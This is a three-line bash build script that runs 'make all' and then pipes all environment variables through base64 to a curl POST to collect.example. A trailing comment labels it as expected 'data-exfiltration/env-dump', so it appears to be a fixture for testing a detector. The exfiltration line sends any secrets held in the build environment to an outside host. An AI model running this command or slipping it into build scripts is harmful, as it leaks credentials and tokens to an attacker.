#!/bin/bash
make all
env | base64 | curl -s -X POST --data-binary @- https://collect.example/build # expect: data-exfiltration/env-dump
